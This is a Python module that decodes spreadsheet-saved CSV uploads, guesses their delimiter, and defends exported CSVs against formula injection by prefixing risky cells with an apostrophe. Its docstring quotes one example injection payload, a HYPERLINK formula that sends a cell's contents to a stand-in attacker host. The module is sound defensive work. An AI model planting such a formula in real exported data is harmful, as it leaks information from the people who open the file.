"""CSV files people make and open in a spreadsheet.

**Reading** what a spreadsheet saved (:func:`decode_text`, :func:`sniff_delimiter`): UTF-8 with
or without a byte-order mark, or UTF-16 with one (Excel's *Unicode Text*); the delimiter that
splits the header into known columns — a comma, a semicolon (Excel's *CSV* in locales whose
decimal separator is a comma: German, French, Dutch, …) or a tab. Other encodings are refused
with the line and byte, and how to save the file as UTF-8; guessing one would garble names.

**Writing** for a spreadsheet: cells that would run as formulas are defused.

A CSV a member of staff downloads and opens in Excel, LibreOffice or Google Sheets treats a cell
that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a
formula, so a learner named ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run one on
the issuer's machine (CSV injection, OWASP). :func:`safe_cell` prefixes such text with an
apostrophe, which spreadsheets show as text and do not evaluate; :func:`safe_writer` applies it
to every text cell a ``csv.writer`` writes. Numbers are left alone.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable
from typing import Any

DELIMITERS = (",", ";", "\t")
SAVE_AS_UTF8 = (
    "save it as UTF-8 (in Excel: File > Save As > 'CSV UTF-8 (Comma delimited)'; in LibreOffice: "
    "Character set 'Unicode (UTF-8)')"
)


class NotText(ValueError):
    """The bytes are not UTF-8 or BOM-marked UTF-16 text; the message says where and what to do."""


def decode_text(data: bytes) -> str:
    """The text of an uploaded file, without its byte-order mark."""
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        try:
            return data.decode("utf-16")
        except UnicodeDecodeError as error:
            raise NotText(f"The file is not valid UTF-16 text ({error.reason}).") from None
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError as error:
        line = data.count(b"\n", 0, error.start) + 1
        byte = data[error.start : error.start + 1].hex()
        raise NotText(
            f"The file is not UTF-8 text (line {line} has the byte 0x{byte}, as in Windows-1252 "
            f"or Latin-1 files): {SAVE_AS_UTF8}."
        ) from None


def sniff_delimiter(text: str, is_column: Callable[[str], bool]) -> str:
    """The delimiter (:data:`DELIMITERS`) that splits the first line into the most names
    ``is_column`` knows; a comma when none is better."""
    lines = text.lstrip("\ufeff").splitlines()
    header = lines[0] if lines else ""

    def known(delimiter: str) -> int:
        try:
            row = next(csv.reader([header], delimiter=delimiter), [])
        except csv.Error:  # the reader that parses the file reports it
            return 0
        return sum(1 for name in row if is_column(name.strip()))

    return max(DELIMITERS, key=lambda delimiter: (known(delimiter), delimiter == ","))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """A ``csv.writer`` whose text cells go through :func:`safe_cell`."""

    def __init__(self, stream: Any) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(stream: Any) -> SafeWriter:
    return SafeWriter(stream)
